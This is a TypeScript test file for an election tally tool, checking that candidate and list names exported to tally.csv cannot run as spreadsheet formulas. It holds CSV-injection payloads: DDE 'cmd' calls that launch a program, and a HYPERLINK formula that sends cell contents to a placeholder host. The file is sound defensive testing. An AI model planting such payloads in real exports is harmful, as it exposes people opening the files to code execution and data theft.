// docs/threat-model.md R34: tally.csv is safe to open in a spreadsheet. Names come from the election package,
// so a list or a candidate named like a formula must arrive as text, never as a formula to run.
import { describe, expect, it } from 'vitest';
import { csvCell, parseElection, tallyCsv, type Election } from '../src/index.js';
import { fixtureBytes, tallyDay } from './fixtures.js';

/** The attacker's payloads from the issue, and the other starts a spreadsheet reads as a formula. */
const PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?x="&A1,"clic")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-2+3', '=1;=2'];

/** sanvalle-2020 with its lists and first candidates named by the payloads: a package the schema takes. */
function hostileElection(): Election {
  const doc = JSON.parse(fixtureBytes('sanvalle-2020.election.json').toString('utf8')) as { contests: { lists?: { name: string; candidates: { surname: string }[] }[] }[] };
  let i = 0;
  for (const contest of doc.contests) {
    for (const list of contest.lists ?? []) {
      list.name = PAYLOADS[i++ % PAYLOADS.length]!;
      list.candidates[0]!.surname = PAYLOADS[i++ % PAYLOADS.length]!;
    }
  }
  const parsed = parseElection(JSON.stringify(doc));
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.error));
  return parsed.value;
}

/** The cells of a `;` CSV as a spreadsheet reads them (quotes taken off). */
function cells(csv: string): string[] {
  const out: string[] = [];
  for (const match of csv.matchAll(/("(?:[^"]|"")*"|[^;\r\n]*)(;|\r\n)/g)) {
    const cell = match[1]!;
    out.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
  }
  return out;
}

describe('CSV cells (R34)', () => {
  it.each([...PAYLOADS, '\tTAB', '\rCR'])('%j arrives as text', (payload) => {
    const cell = cells(`${csvCell(payload)}\r\n`);
    expect(cell).toEqual([`'${payload}`]);
  });

  it('leaves ordinary names and figures as they are, quoting only what must be', () => {
    expect(['Insieme per Sanvalle', 'D\'ANGELO', 'Lista "Uniti"', 'A;B', 42, 0].map(csvCell)).toEqual(['Insieme per Sanvalle', "D'ANGELO", '"Lista ""Uniti"""', '"A;B"', '42', '0']);
  });

  it('tally.csv carries hostile list and candidate names as text, and no cell starts a formula', () => {
    const election = hostileElection();
    const { tally } = tallyDay(election, 30, 7);
    const all = cells(tallyCsv(election, tally));
    // A candidate's cell is "surname name": it starts with the payload.
    for (const payload of PAYLOADS) expect([payload, all.some((c) => c.startsWith(`'${payload}`))]).toEqual([payload, true]);
    expect(all.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});
